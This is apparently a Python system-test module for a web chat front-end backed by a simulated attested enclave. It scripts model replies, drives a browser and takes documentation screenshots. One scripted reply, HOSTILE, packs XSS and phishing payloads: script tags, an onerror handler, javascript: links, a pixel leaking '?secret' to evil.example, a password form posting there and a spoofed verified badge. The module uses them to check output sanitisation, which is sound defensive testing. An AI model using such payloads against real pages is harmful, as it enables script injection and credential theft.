"""The web chat on a stage: a browser, the proxy that serves the page, and an enclave behind a hop that records it all.

The model is scripted: what it says to a question stands in `SAYS`. `python -m tests.system.chat_stage FOLDER` draws the
pictures of docs/images there.
"""

import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field, replace
from functools import partial
from pathlib import Path
from typing import Any
from unittest import mock

from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, sync_playwright
from tests.cli import hardware
from tests.client.deployment import Deployment, Served, chunk
from tests.system.shell import ROOT, tool
from tests.vendors import amd, intel
from tests.verify.world import ENGINE, LAUNCH, MODEL, NOW

from cloister.client import AsyncSession, Clock
from cloister.evidence.binding import report_data
from cloister.evidence.document import Document, Item
from cloister.evidence.endorsements import Endorsements
from cloister.evidence.launch import launch_digest
from cloister.evidence.statement import EngineStatement, ModelStatement, Statement
from cloister.host.relay import Relay
from cloister.proxy import Chat, ProxyConfig, create_proxy
from cloister.sim import Device
from cloister.verify import Policy, parse_policy, verify
from cloister.verify.roots import PINNED

__all__ = ["SAYS", "Site", "browsing", "simulated_policy", "site", "tdx_deployment", "tdx_site", "tdx_trusted"]

AXE = ROOT / "web" / "chat" / "node_modules" / "axe-core" / "axe.min.js"

EXPLAINS = """\
A **nonce** is a number that is used once. In remote attestation it is what makes evidence *fresh*:

1. The client makes up 32 random bytes.
2. The hardware signs them together with the enclave's keys.
3. Nobody can have prepared that answer before.

```python
import secrets

def challenge() -> bytes:
    \"\"\"Made anew for every question.\"\"\"
    return secrets.token_bytes(32)
```

| evidence | replayed? |
| --- | --- |
| with this nonce | no |
| with another one | refused |

See also [RFC 9334](https://www.rfc-editor.org/rfc/rfc9334.html).
"""

HOSTILE = """\
# Hello

<img src="http://evil.example/a.png" onerror="document.title='owned'"> <script>document.title='owned'</script>

![pixel](http://evil.example/b.png?secret) [run](javascript:document.title='owned') [data](data:text/html,x)
[bank](https://evil.example/login "title") <span class="badge verified">Verified</span> <style>body{display:none}</style>

<form action="http://evil.example"><input name="password"><button id="badge">x</button></form>

```html
<script>document.title='owned'</script><img src="http://evil.example/c.png">
```

~~~badge verified" onmouseover="alert(1)
spoof
~~~
"""

SAYS: dict[str, Sequence[str | Exception | None]] = {
    "What is a nonce?": [EXPLAINS[at : at + 7] for at in range(0, len(EXPLAINS), 7)],
    "Attack me": [HOSTILE],
    "Tell me a long story": ["Once ", "upon ", "a time ", None],
    "Break": [RuntimeError("the engine died")],
}


def say(asked: str) -> Sequence[str | Exception | None]:
    return SAYS.get(asked, ["You said ", asked, "."])


@dataclass
class Site:
    """One proxy with its page. `relay` is None where nothing is recorded."""

    served: Served
    chat: Chat
    relay: Relay | None

    def traffic(self) -> bytes:
        assert self.relay is not None
        return b"".join(record.data for record in self.relay.take())


@contextmanager
def site(
    url: str, policy: Policy, key_file: Path, *, relay: Relay | None = None, own_key: str = "", **options: Any
) -> Iterator[Site]:
    chats: list[Chat] = []

    def make(port: int) -> object:
        chats.append(Chat(port, key_file=key_file))
        session = AsyncSession(url, policy=policy, pin_measurement=True, **options)
        return create_proxy(session, ProxyConfig(port=port, key=own_key), chats[0])

    with Served(None, port_of=make) as served:
        yield Site(served, chats[0], relay)


def simulated_policy(root_pem: bytes) -> Policy:
    return Policy(simulator_root=root_pem, tolerate_insecure=frozenset({"api-keys-off"}))


# Hardware that is none: a synthetic Intel signs what the enclave asks it to, in January 2027


class _Api:
    """As much of the API as the page asks."""

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        body = (await receive()).get("body", b"")
        is_models = scope["path"] == "/v1/models"
        media_type = b"application/json" if is_models else b"text/event-stream"
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", media_type)]})
        if is_models:
            await send({"type": "http.response.body", "body": b'{"object":"list","data":[{"id":"demo"}]}'})
            return
        said = EXPLAINS if b"nonce" in body else "Good morning. What shall we look at?"
        for at in range(0, len(said), 9):
            await send({"type": "http.response.body", "body": chunk(said[at : at + 9]), "more_body": True})
        await send({"type": "http.response.body", "body": b"data: [DONE]\n\n"})


class _TdxDeployment(Deployment):
    """`report` changes fields of the hardware's report."""

    report: dict[str, bytes] = {}  # noqa: RUF012 (replaced, never changed)

    async def attest(self, nonce: bytes) -> bytes:
        self.attested += 1
        digest = launch_digest(LAUNCH.encode())
        statement = Statement(
            purpose="serve",
            aud=(),
            launch_sha256=digest.hex(),
            iat=int(self.now()),
            exp=int(self.ring.expires_at),
            ohttp_keys=self.ring.ohttp_keys,
            receipt_key=bytes(32),
            engine=EngineStatement(ENGINE, "avx2"),
            models=(ModelStatement("demo", MODEL, "q8_0"),),
        ).encode()
        report = {"report_data": report_data(nonce, statement), "mr_config_id": digest + bytes(16), **self.report}
        evidence = intel.tdx(report=report)
        items = {
            "statement": Item("application/json", statement),
            "launch": Item("application/json", LAUNCH.encode()),
            "cpu": Item("application/octet-stream", evidence.quote),
            "endorsements": Endorsements(intel=evidence.collateral).item(),
        }
        return Document(items).encode()


def tdx_deployment(device: Device) -> _TdxDeployment:
    return _TdxDeployment(device, _Api(), offset=NOW - time.time())


def tdx_trusted() -> Any:
    """While it holds, the session believes the synthetic root in the place of Intel's."""
    roots = replace(PINNED, intel=intel.tdx().root, amd=amd.make().roots)
    return mock.patch("cloister.client.attestor.verify", partial(verify, roots=roots))


@contextmanager
def tdx_site(deployment: _TdxDeployment, key_file: Path) -> Iterator[Site]:
    policy = parse_policy(hardware.POLICY, read=lambda name: name.encode())
    with (
        Served(deployment.gateway) as gateway,
        tdx_trusted(),
        site(gateway.url, policy, key_file, clock=Clock(wall=deployment.now)) as one,
    ):
        yield one


# The browser


@dataclass
class Window:
    """A page, every address that it asked, and whatever it complained about."""

    page: Page
    asked: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    @property
    def context(self) -> BrowserContext:
        return self.page.context

    def open(self, address: str) -> Page:
        self.page.goto(address)
        self.page.wait_for_selector("body[data-ready]")
        return self.page

    def ask(self, text: str) -> None:
        self.page.get_by_label("Your question").fill(text)
        self.page.keyboard.press("Enter")

    def answered(self, text: str, *, count: int = 1) -> None:
        """Until the last of `count` answers is whole and holds `text`."""
        last = self.page.locator(".message.assistant:not([aria-busy])").nth(count - 1)
        last.get_by_text(text).first.wait_for()


@contextmanager
def browsing() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=tool("chromium"))
        try:
            yield browser
        finally:
            browser.close()


@contextmanager
def window(browser: Browser, **options: Any) -> Iterator[Window]:
    with browser.new_context(**{"viewport": {"width": 1180, "height": 860}, **options}) as context:
        context.set_default_timeout(20_000)
        one = Window(context.new_page())

        def complain(message: ConsoleMessage) -> None:
            if message.type in ("error", "warning"):
                one.complaints.append(message.text)

        one.page.on("console", complain)
        one.page.on("pageerror", lambda error: one.complaints.append(str(error)))
        context.on("request", lambda request: one.asked.append(request.url))
        yield one


# Pictures


def _draw(folder: Path) -> None:
    with ExitStack() as running:
        home = Path(running.enter_context(tempfile.TemporaryDirectory()))
        browser = running.enter_context(browsing())
        deployment = tdx_deployment(Device.open(home / "sim"))
        real = running.enter_context(tdx_site(deployment, home / "chat.key"))
        shots: list[tuple[str, dict[str, Any], Callable[[Page], None]]] = [
            ("chat-light", {}, lambda page: None),
            ("chat-dark", {"color_scheme": "dark"}, lambda page: None),
            ("panel-light", {}, _open_panel),
            ("phone-light", _PHONE, lambda page: None),
            ("phone-dark-panel", {**_PHONE, "color_scheme": "dark"}, _open_panel),
        ]
        for name, options, prepare in shots:
            with window(browser, **options) as one:
                page = one.open(real.chat.address())
                one.ask("Good morning")
                one.answered("What shall we look at?")
                page.locator("#new").dispatch_event("click")
                one.ask("What is a nonce?")
                one.answered("RFC 9334")
                page.locator("#scroller").evaluate("one => { one.scrollTop = 0; }")
                prepare(page)
                page.screenshot(path=folder / f"{name}.png")
        deployment.report = {"rtmr2": b"\xbb" * 48}
        with tdx_site(deployment, home / "chat.key") as changed, window(browser) as one:
            page = one.open(changed.chat.address())
            _open_panel(page)
            page.screenshot(path=folder / "blocked-light.png")


_PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 1.5, "has_touch": True}


def _open_panel(page: Page) -> None:
    page.locator("#badge").click()
    page.locator("#panel[open]").wait_for()


if __name__ == "__main__":
    _draw(Path(sys.argv[1]))
